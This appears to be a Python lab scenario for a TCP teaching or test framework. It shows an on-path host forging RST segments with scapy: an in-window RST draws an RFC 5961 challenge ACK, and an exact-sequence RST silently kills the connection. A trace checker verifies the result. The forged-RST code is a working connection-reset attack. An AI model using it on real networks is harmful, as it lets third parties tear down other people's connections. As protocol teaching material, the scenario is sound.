"""A third party on the path forges RSTs: only one at exactly the right sequence number kills the connection.

An on-path host (here the router) reads the connection's sequence numbers off
the wire and sends RSTs that claim to come from the server. Since RFC 5961, a
RST whose seq is inside the receive window but not exactly the next expected
byte (rcv_nxt) does not reset anything: the client answers with a "challenge
ACK" that tells the real server where it stands, and the connection lives on.
A RST at exactly rcv_nxt is accepted: the client's connection dies in silence,
and the real server only learns it when its next data draws a RST.
"""

from scapy.layers.inet import IP, TCP

TITLE = "Forged RST: challenge ACK, then reset at the exact sequence number"
PHASE = "middleboxes"
HOSTS = ("client", "router", "server")
TRACE_OPTIONS = ["-v", "-K"]  # TTL and IP ID betray who sent a segment; -K: veth checksums are offloaded
IN_WINDOW = 1000  # bytes past rcv_nxt: inside the client's 64 KiB window, but not exact


def run(client, router, server):
    attacker = router.wiretap()  # a third party on the router: it sees every segment pass

    listener = server.socket()
    listener.bind((server.ip, 8888))
    listener.listen()
    sock = client.socket()
    sock.connect((server.ip, 8888))
    conn, _ = listener.accept()
    conn.sendall(b"hello")
    sock.recv(1024)

    # the attacker reads the sequence numbers off the wire
    hello = attacker.expect(flags="P.", source=server.ip)
    attacker.expect(flags=".", source=client.ip)  # the client acknowledges it
    rcv_nxt = hello[TCP].seq + len(hello[TCP].payload)  # the next byte the client expects

    def forged_rst(seq):  # a RST "from the server", made on the router
        return IP(src=server.ip, dst=client.ip) / TCP(sport=8888, dport=hello[TCP].dport, flags="RA",
                                                      seq=seq, ack=hello[TCP].ack, window=0)

    # 1. inside the window, not exact: RFC 5961 says challenge it, not obey it
    attacker.send(forged_rst(rcv_nxt + IN_WINDOW))
    router.note(f"the attacker sends a forged RST, seq = rcv_nxt + {IN_WINDOW}", rcv_nxt + IN_WINDOW)
    attacker.expect(flags=".", source=client.ip)  # the client's challenge ACK
    sock.sendall(b"still here")
    conn.recv(1024)  # the connection survived
    latest = attacker.expect(flags=".", source=server.ip)  # the server acknowledges it

    # 2. exactly rcv_nxt: accepted, the client's connection is gone
    attacker.send(forged_rst(latest[TCP].seq))  # the server sent no data since: still rcv_nxt
    router.note("the attacker sends a forged RST, seq = rcv_nxt", latest[TCP].seq)
    try:
        sock.recv(1024)
    except ConnectionResetError:
        pass

    # the real server does not know yet: its next data meets a client with no socket
    conn.sendall(b"anyone?")
    try:
        conn.recv(1024)
    except ConnectionResetError:
        pass


def claims(trace):
    _, synack, _ = trace.handshake("client", "server")
    hello = trace.next("server", "P.", name="server-data", payload=5, what="the real server sends 5 bytes")
    trace.next("client", ".", name="server-data-ack", ack=hello.seq + 5)
    rcv_nxt = hello.seq + 5

    forged = trace.next("server", "R.", name="forged-rst-in-window", reason=None, seq=rcv_nxt + IN_WINDOW, ttl=64,
                        what=f"a RST claiming to be from the server arrives, seq rcv_nxt + {IN_WINDOW}"
                             " (inside the window, not exact)")
    trace.check("its TTL (64) betrays it: the real server's segments arrive with TTL 63, one hop away",
                synack.ttl == hello.ttl == 63 and forged.ttl == 64,
                f"server's TTL {synack.ttl}/{hello.ttl}, forged RST's TTL {forged.ttl}")
    trace.next("client", ".", name="challenge-ack", ack=rcv_nxt, payload=0, within=0.05,
               what="the client answers with a challenge ACK for rcv_nxt, and does not reset")
    trace.next("client", "P.", name="client-data", payload=10, what="the connection lives: the client sends 10 bytes")
    trace.next("server", ".", name="client-data-ack", ttl=63, what="the real server acknowledges them")

    trace.next("server", "R.", name="forged-rst-exact", reason=None, seq=rcv_nxt, ttl=64,
               what="a second forged RST arrives with seq exactly rcv_nxt")
    anyone = trace.next("server", "P.", name="server-data-after", payload=7, ttl=63,
                        what="the client stays silent; later the real server sends 7 more bytes")
    rst = trace.next("client", "R", name="client-rst", seq=anyone.ack, win=0, within=0.05,
                     what="the client has no socket any more: a bare [R], as for any unknown connection")
    trace.check("the client's RST has no TCP options: no socket made it", rst.options == (), f"options {rst.options}")
    trace.raised("client", "recv", "ECONNRESET", nth=1)
    trace.raised("server", "recv", "ECONNRESET", nth=1)
    trace.counter("client", "TcpExtTCPChallengeACK", 1, what="the client's kernel counts one challenge ACK")
    trace.counter("client", "TcpEstabResets", 1, what="and one established connection reset")
